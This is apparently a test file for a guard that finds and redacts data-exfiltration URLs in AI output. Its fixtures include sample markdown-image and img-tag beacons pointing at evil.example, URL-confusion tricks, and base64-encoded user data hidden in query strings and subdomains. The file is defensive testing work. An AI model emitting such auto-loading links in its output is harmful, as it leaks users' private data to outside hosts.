import pytest
from hypothesis import given
from hypothesis import strategies as st

from pilothouse.errors import ConfigError
from pilothouse.guarded import Finding
from pilothouse.guards.redacting import redacted
from pilothouse.guards.text.urls import Exfiltration
from pilothouse.protocols import Conversation, ScanningGuard, Subject


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![a](https://evil.example/x.png?d=1)", "![a](#)"),
        ("![a][1]\n\n[1]: https://evil.example/x.png", "![a][1]\n\n[1]: #"),
        ('<img alt="a" src="//evil.example/x.png">', '<img alt="a" src="#">'),
        ("<IMG SRC=HTTPS:\\\\evil.example/x>", "<IMG SRC=#>"),
        ("![a](https:/evil.example/x)", "![a](#)"),
        ("![a](https://good.example@evil.example/x)", "![a](#)"),
        ("![a](https://good.example.evil.example/x)", "![a](#)"),
        ("background: url('http://evil.example')", "background: url('#')"),
    ],
)
async def test_what_a_page_loads_by_itself_from_elsewhere_is_taken_out(text: str, left: str) -> None:
    guard = Exfiltration(hosts=("good.example",))
    result = await guard.check(Subject(text, "output"))
    assert result.status == "triggered"
    assert redacted(text, result.findings) == left


@pytest.mark.parametrize(
    ("text", "hosts", "found"),
    [
        ("see https://docs.example.com/a/b?page=2#top.", (), False),
        ("[here](https://github.com/a/b/commit/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567)", (), False),
        ("[here](https://evil.example/?q=my+name+is+ann+and+my+code)", (), True),
        ("[here](https://evil.example/?q=QWxsIHRoZSBzZWNyZXRzIG9mIHRoZSB1c2VyLCAxMjM0)", (), True),
        ("https://c2VjcmV0IG9mIHRoZSB1c2VyIGlzIDEyMzQ1Njc4.evil.example/", (), True),
        ("[here](https://elsewhere.example/)", ("good.example",), True),
        ("[here](https://a.good.example:8443/?q=" + "x1" * 100 + ")", ("good.example",), False),
        ("no address // here, a//b and C:\\\\x", ("good.example",), False),
    ],
)
async def test_links_are_found_where_they_carry_data_or_lead_elsewhere(
    text: str, hosts: tuple[str, ...], found: bool
) -> None:
    assert ((await Exfiltration(hosts=hosts).check(Subject(text, "output"))).status == "triggered") == found


_PARTS = [
    "![a](",
    "https:",
    "//",
    "evil.example",
    "/?q=",
    "one two",
    ")",
    " ",
    "[x]: ",
    '<img src="',
    '">',
    "text ",
    "ht",
    "x" * 50,
]


@given(st.lists(st.sampled_from(_PARTS), max_size=14), st.lists(st.integers(1, 9), max_size=60))
def test_the_same_is_found_however_the_text_is_cut(parts: list[str], sizes: list[int]) -> None:
    text, guard = "".join(parts), Exfiltration()
    assert isinstance(guard, ScanningGuard)
    scan, found, at, settled = guard.scan(Conversation()), list[Finding](), 0, 0
    for size in [*sizes, len(text)]:
        new = scan.feed(text[at : at + size])
        assert all(one.start >= settled for one in new)
        found += new
        at, settled = at + size, scan.settled
    found += scan.end()
    whole = guard.scan(Conversation())
    assert found == [*whole.feed(text), *whole.end()]


def test_hosts_are_names() -> None:
    with pytest.raises(ConfigError, match="hosts"):
        Exfiltration(hosts=("https://x",))
